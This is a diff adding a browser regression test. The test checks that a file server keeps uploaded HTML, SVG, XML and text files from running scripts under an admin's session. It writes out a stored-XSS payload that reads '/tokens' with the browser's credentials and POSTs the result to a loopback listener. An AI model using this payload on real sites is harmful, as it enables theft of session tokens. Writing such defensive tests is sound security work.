@@ -6,6 +6,8 @@ Each test here serves a files root of its own (not the session's), so it may wri
 
 from __future__ import annotations
 
+import contextlib
+import http.server
 import json
 import os
 import threading
@@ -327,3 +329,98 @@ def test_names_that_are_not_utf8_are_listed_and_served(database_url: str, logs_d
         assert {r["target"] for r in rows} == {"caf\\xe9.txt", "dir\\xff/\\xfe\\xfd.bin"}
     finally:
         s.stop()
+
+
+# Section 2 in a real browser: the stored-script attack of the issue, replayed.
+
+class _Reports(http.server.BaseHTTPRequestHandler):
+    """A second loopback listener: whatever a script manages to send out lands here."""
+
+    received: list[str] = []
+
+    def _record(self) -> None:
+        length = int(self.headers.get("content-length") or 0)
+        body = self.rfile.read(length).decode("utf-8", "replace") if length else ""
+        self.received.append(f"{self.path} {body}")
+        self.send_response(204)
+        self.send_header("Access-Control-Allow-Origin", "*")
+        self.end_headers()
+
+    do_GET = do_POST = _record
+
+    def log_message(self, format: str, *args: object) -> None:
+        pass
+
+
+def _attack(report: str) -> str:
+    """Fetch /tokens with whatever credentials the browser holds; tell the page and the
+    listener what came back."""
+    return f"""
+fetch('/tokens', {{credentials: 'include'}}).then(r => r.text()).then(t => {{
+  document.title = 'READ ' + t;
+  fetch('{report}/read', {{method: 'POST', mode: 'no-cors', body: t}});
+}}).catch(e => {{ document.title = 'FAILED ' + e; }});
+new Image().src = '{report}/ran';
+"""
+
+
+def test_chromium_stored_script_reads_nothing(database_url: str, logs_dir: Path,
+                                              tmp_path: Path) -> None:
+    from playwright.sync_api import Error, sync_playwright
+
+    from tests.test_access import CLOSED, make_link, new_token
+    from tests.test_browser import ARGS, CHROMIUM, sign_in
+
+    listener = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Reports)
+    _Reports.received = []
+    threading.Thread(target=listener.serve_forever, daemon=True).start()
+    report = f"http://127.0.0.1:{listener.server_address[1]}"
+    script = _attack(report)
+    pub = tmp_path / "root" / "pub"
+    pub.mkdir(parents=True)
+    (pub / "evil.html").write_text(f"<html><body><script>{script}</script></body></html>")
+    (pub / "evil.svg").write_text(
+        f'<svg xmlns="http://www.w3.org/2000/svg"><script>{script}</script></svg>')
+    (pub / "evil.xml").write_text(
+        f'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body>'
+        f"<script>{script}</script></body></html>")
+    (pub / "evil.txt").write_text(f"<html><script>{script}</script></html>")
+
+    s = Server(database_url, logs_dir / f"chromium-{os.urandom(3).hex()}.log",
+               {"EXPORTER_FILES_ROOT": str(tmp_path / "root"), **CLOSED}).start()
+    suffix = os.urandom(3).hex()
+    admin = new_token(database_url, f"admin-{suffix}", "admin")
+    low = new_token(database_url, f"low-{suffix}", "files:pub/")
+    try:
+        with sync_playwright() as p:
+            browser = p.chromium.launch(executable_path=CHROMIUM, args=ARGS, timeout=30_000)
+            try:
+                context = browser.new_context(accept_downloads=True)
+                context.set_default_timeout(20_000)
+                page = context.new_page()
+                page.goto(s.url + "/")
+                sign_in(page, admin)  # the admin, signed in with the cookie
+                # The cookie does open /tokens to scripts of this origin: something to steal.
+                assert page.evaluate("fetch('/tokens').then(r => r.status)") == 200
+                downloads: list[str] = []
+                page.on("download", lambda d: downloads.append(d.suggested_filename))
+                for name in ["evil.html", "evil.svg", "evil.xml", "evil.txt"]:
+                    # The low-privilege token makes the link; the admin opens it.
+                    link = make_link(s, low, f"/files/pub/{name}?disposition=inline")
+                    # "Download is starting" is an error to goto: the browser saves the
+                    # file and shows nothing.
+                    with contextlib.suppress(Error):
+                        page.goto(link)
+                    page.wait_for_timeout(1500)
+                    assert not page.title().startswith("READ"), (name, page.title())
+                    if name == "evil.txt":
+                        # Shown inline, as text: the markup is there, nothing ran.
+                        assert "fetch('/tokens'" in page.inner_text("body")
+                assert sorted(downloads) == ["evil.html", "evil.svg", "evil.xml"]
+            finally:
+                browser.close()
+    finally:
+        listener.shutdown()
+        listener.server_close()
+        s.stop()
+    assert _Reports.received == []
